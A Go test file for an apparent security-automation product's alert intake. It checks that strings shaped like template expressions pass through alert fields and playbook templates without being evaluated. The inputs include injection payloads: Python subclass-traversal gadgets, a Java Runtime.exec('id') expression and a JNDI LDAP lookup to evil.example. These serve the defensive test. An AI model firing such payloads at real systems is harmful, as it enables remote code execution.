package intake

import (
	"encoding/json"
	"fmt"
	"slices"
	"testing"

	"github.com/quell-soar/quell/connectors/spec/kind"
	"github.com/quell-soar/quell/playbooks/expr"
	"github.com/quell-soar/quell/playbooks/plan"
)

// templates writes expressions as every engine that renders texts would take them,
// ours included.
func templates() []string {
	marks := [][2]string{
		{"{{", "}}"},
		{"${", "}"},
		{"${{", "}}"},
		{"$${{", "}}"},
		{"{%", "%}"},
		{"{{{", "}}}"},
		{"<%=", "%>"},
		{"<%", "%>"},
		{"#{", "}"},
		{"*{", "}"},
		{"@(", ")"},
		{"@{", "}"},
		{"[[", "]]"},
		{"[%", "%]"},
		{"$(", ")"},
		{"`", "`"},
		{"~{", "}"},
		{"{#", "#}"},
		{"\uff5b\uff5b", "\uff5d\uff5d"},
		{"\\u007b\\u007b", "\\u007d\\u007d"},
		{"${jndi:", "}"},
		{"{{=", "}}"},
		{"{!", "!}"},
		{"", ""},
	}
	bodies := []string{
		"7*7", "49-1+1", "inputs.text", "steps.host.device", "settings", "run.id", "alert.title", "alert", "now", "secrets.token", "env.HOME",
		"''.__class__.__mro__[1].__subclasses__()", "config.items()", "self.__init__.__globals__", "T(java.lang.Runtime).getRuntime().exec('id')",
		"ldap://evil.example/a", "range.constructor(\"return global\")()", "print 7*7", "[1,2].map(x, x*x)", "json.parse('{}')", "template \"x\" .", ". | printf \"%s\"",
	}
	var out []string
	for _, m := range marks {
		for _, b := range bodies {
			out = append(out, m[0]+b+m[1], m[0]+" "+b+" "+m[1])
		}
	}
	return out
}

// TestTemplates puts texts that look like expressions and templates into every field
// of an alert, and the alert's texts into a text of a playbook, as tickets and chats
// get them, and that text into another one. What comes out is what came in, byte for
// byte: nothing that an expression gives is looked through for expressions.
func TestTemplates(t *testing.T) {
	text := kind.Of(kind.String)
	set, err := expr.Load(&plan.Plan{Format: plan.Format, Playbook: "p", Inputs: []plan.Input{{Name: "text", Type: text}}, Exprs: []plan.Expr{
		{Text: "alert.title", Type: text, Line: 1, Column: 1}, {Text: "inputs.text", Type: text, Line: 2, Column: 1},
	}})
	if err != nil {
		t.Fatal(err)
	}
	value := func(n plan.ExprRef) plan.Value {
		return plan.Value{Template: []plan.Part{{Text: "<"}, {Expr: &n}, {Text: ">"}}, Type: text}
	}
	list := templates()
	if len(list) < 500 {
		t.Fatalf("only %d texts", len(list))
	}
	for i, v := range list {
		body, err := json.Marshal(map[string]any{
			"id": fmt.Sprint(i), "kind": v, "title": v, "severity": v, "urls": []any{v}, "ips": []any{v},
			"hosts": []any{map[string]any{"name": v, "device_id": v}}, "users": []any{map[string]any{"name": v, "domain": v}},
			"files": []any{map[string]any{"path": v, "name": v}}, "emails": []any{map[string]any{"message_id": v, "subject": v, "reporter": v}},
		})
		if err != nil {
			t.Fatal(err)
		}
		a, err := Normalise("s", Generic, "d", noon, body)
		if err != nil {
			t.Fatalf("%q: %v", v, err)
		}
		for _, got := range texts(a.Value()) {
			if got != v && !slices.Contains([]string{"s", "info", "detection", fmt.Sprint(i)}, got) {
				t.Errorf("%q became %q", v, got)
			}
		}
		once, err := set.Value(value(0), expr.Scope{Alert: a.Value()})
		if err != nil || once != "<"+v+">" {
			t.Errorf("%q was written as %q, %v", v, once, err)
		}
		again, err := set.Value(value(1), expr.Scope{Inputs: map[string]any{"text": once}})
		if err != nil || again != "<<"+v+">>" {
			t.Errorf("%q was written again as %q, %v", v, again, err)
		}
	}
}
